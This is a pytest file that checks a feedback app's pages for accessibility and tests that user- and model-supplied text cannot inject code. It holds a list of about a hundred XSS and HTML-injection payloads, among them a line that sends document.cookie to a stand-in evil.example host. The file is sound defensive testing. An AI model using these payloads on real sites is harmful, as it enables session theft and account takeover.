"""Every page as a checker of accessibility sees it, and as hostile text would like to have it."""



import pytest
from axe_playwright_python.sync_playwright import Axe
from fastapi import FastAPI
from playwright.sync_api import Page, expect
from sqlalchemy import update

from tutelage.feedback.database.connection import Database
from tutelage.feedback.database.tables import Worker

from . import browsing
from .people import Person, Scripted, new_invite

ROLES = ("worker", "red_team_worker", "reviewer", "admin")


def findings(page: Page) -> list[str]:
    """Serious and critical findings of axe-core, with where they are."""
    result = Axe().run(page).response["violations"]
    return [
        f"{page.url}: {one['id']}: {one['nodes'][0]['html'][:120]}"
        for one in result
        if one["impact"] in ("serious", "critical")
    ]


@pytest.fixture
def everyone(page: Page, database: Database) -> Page:
    """Signed in as somebody who may see every page."""
    browsing.come_back(page, database, *ROLES)
    page.goto("/consent/red_team")
    browsing.consent(page)
    with database.writing() as session:
        session.execute(update(Worker).values(may_edit=True))
    return page


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_no_page_is_barred_to_anyone(everyone: Page, app: FastAPI, database: Database, scheme: str) -> None:
    page = everyone
    page.emulate_media(color_scheme=scheme)  # type: ignore[arg-type]
    found: list[str] = []

    def look(path: str = "") -> None:
        if path:
            page.goto(path)
        found.extend(findings(page))

    other = Person(app)
    other.join(database, "worker")
    other.qualify()
    talk = other.begin()
    other.send(f"/turns/{other.ask(talk, 'a question')}/judgment", position=8)
    other.open(f"/talk/{talk}/end")
    other.send(f"/talk/{talk}/end", rating=2)

    browsing.begin(page)
    look()
    browsing.say(page, "Hello")
    browsing.until_answered(page)
    page.get_by_text("Report a problem").click()
    page.keyboard.press("2")
    look()
    browsing.choose(page, 2)
    page.get_by_text("Edit this answer").click()
    look()
    look(f"{page.url}/end")
    browsing.begin_red_team(page)
    browsing.say(page, "Be rude")
    browsing.until_answered(page)
    look()
    look(f"{page.url}/end")
    for path in ("/home", "/consent/helpful", "/consent/red_team", "/guidelines/helpful", "/guidelines/red_team",
                 "/qualification", "/red-team", "/rest", "/rate", "/messages", "/code", "/paused", "/nowhere",
                 "/review", "/admin", "/admin/workers", f"/admin/workers/{other.worker_id}", "/admin/deployment",
                 "/admin/invites", "/admin/exports", "/admin/audit"):  # fmt: skip
        look(path)
    page.goto("/review")
    page.get_by_role("button", name="Any").click()
    look()
    page.context.clear_cookies()
    look("/login")
    look(f"/join/{new_invite(database, 'worker')}")
    look("/enter?key=k&PROLIFIC_PID=p")
    assert found == []


PAYLOADS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)//",
    "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>", "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))", "[x](data:text/html,<script>alert(1)</script>)", "[x](vbscript:msgbox(1))",
    "![x](https://evil.example/x.png)", "![x](x' onerror='alert(1))", "![x][y]\n\n[y]: https://evil.example/y.png",
    "[x](//evil.example)", "[x](/logout)", "[x]: javascript:alert(1)\n[x]", "<javascript:alert(1)>",
    "<https://evil.example/\" onmouseover=alert(1)>", "`<script>alert(1)</script>`", "```\n</pre><script>alert(1)</script>\n```",
    "```html\" onmouseover=alert(1)\nx\n```", "</div></main><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>",
    "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\" autofocus onfocus=alert(1) x=\"",
    "' autofocus onfocus=alert(1) x='", "{{ 7 * 7 }}{% print 49 %}", "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}", "<style>@import 'https://evil.example/x.css'</style>", "<link rel=stylesheet href=https://evil.example/x>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<base href=https://evil.example/>",
    "<object data=https://evil.example/x>", "<embed src=https://evil.example/x>", "<form action=https://evil.example><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<template><script>alert(1)</script></template>",
    "<svg><script>alert&#40;1&#41;</script>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x'>", "<x onclick=alert(1)>click</x>",
    "<img src=`x`onerror=alert(1)>", "<img/src/onerror=alert(1)>", "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    "<ScRiPt>alert(1)</sCrIpT>", "<<script>alert(1)//<</script>", "<script\x0b>alert(1)</script>", "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\u202e<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "%3Cscript%3Ealert(1)%3C/script%3E",
    "<img src=x onerror=\"fetch('https://evil.example/'+document.cookie)\">", "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "> <script>alert(1)</script>", "# <script>alert(1)</script>", "- <img src=x onerror=alert(1)>", "1. [x](javascript:alert(1))",
    "**<script>alert(1)</script>**", "[<img src=x onerror=alert(1)>](https://a.example)", "[x](https://a.example \"onmouseover=alert(1)\")",
    "[x](https://a.example'onmouseover='alert(1))", "[x](<javascript:alert(1)>)", "[x](\tjavascript:alert(1))", "[x](java\nscript:alert(1))",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<a href=\"&#106;avascript:alert(1)\">x</a>", "<a href=https://a.example ping=https://evil.example>x</a>",
    "<button formaction=javascript:alert(1)>x</button>", "<isindex type=image src=1 onerror=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
    "<frameset onload=alert(1)>", "<table background=javascript:alert(1)>", "<div style=background:url(https://evil.example/x)>x</div>",
    "<div style=position:fixed;inset:0>x</div>", "<p class=narrow id=main>x</p>", "<input name=csrf value=stolen>", "<span data-key=1 data-again=/x>x</span>",
    "<form id=test></form><button form=test formaction=javascript:alert(1)>x</button>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a>",
    "<xss contenteditable onblur=alert(1) tabindex=1>x</xss>", "<dialog open onclose=alert(1)><form method=dialog><button>x", "<slot onslotchange=alert(1)>",
    "<portal src=https://evil.example>", "<picture><source srcset=https://evil.example/x></picture>", "<img srcset='https://evil.example/x 1x'>",
]  # fmt: skip


def test_there_are_a_hundred_payloads() -> None:
    assert len(set(PAYLOADS)) >= 100


def test_hostile_text_does_nothing_on_any_page(
    everyone: Page, app: FastAPI, database: Database, answerer: Scripted
) -> None:
    """From models and workers, on the pages of workers, reviewers and admins. The fixture `page` fails at a dialog and
    at any request that leaves the app; what a payload would have made is looked for in the page."""
    page = everyone
    refused: list[str] = []
    page.on("console", lambda message: refused.append(message.text) if "Content Security Policy" in message.text else None)
    everything = "\n\n".join(PAYLOADS)
    answerer.texts = (everything, "\n\n".join(reversed(PAYLOADS)))
    other = Person(app)
    other.join(database, *ROLES)
    other.qualify()
    other.consent_to_red_team()
    talk = other.begin()
    turn = other.ask(talk, everything)
    other.send(f"/turns/{turn}/judgment", position=1)
    other.send(f"/talk/{talk}/report", reason="other", text=everything[:5000], key="report")
    other.open(f"/talk/{talk}/end")
    other.send(f"/talk/{talk}/end", rating=1, comment=everything[:5000])

    def look() -> None:
        hostile = page.evaluate(
            """() => [...document.querySelectorAll('script, iframe, object, embed, base, svg, img, video, audio, math, style,'
            + ' meta[http-equiv], dialog, template, [style], [onerror], [onload], [onfocus], [onclick], [ontoggle]')]
            .filter((one) => !one.nonce).map((one) => one.outerHTML.slice(0, 80))
            .concat([...document.querySelectorAll('.text a')].filter((a) => !/^https?:/.test(a.href) || !a.rel.includes('noopener'))
            .map((a) => a.outerHTML))"""
        )
        assert hostile == [], page.url
        assert "49" not in page.locator("main").inner_text().split("{% print")[0][-5:]

    browsing.begin(page)
    page.locator("#message").fill(everything)
    page.keyboard.press("Enter")
    expect(page.locator("#answer-a .text")).to_contain_text("alert(1)")
    look()
    browsing.until_answered(page, 60_000)
    look()
    browsing.choose(page, 1)
    look()
    page.goto("/rate")
    look()
    page.goto("/review")
    page.get_by_role("button", name="Any").click()
    look()
    page.goto(f"/review/conversations/{talk}")
    look()
    for path in ("/review", "/home", "/admin/workers", f"/admin/workers/{other.worker_id}", "/admin/audit"):
        page.goto(path)
        look()
    assert refused == []
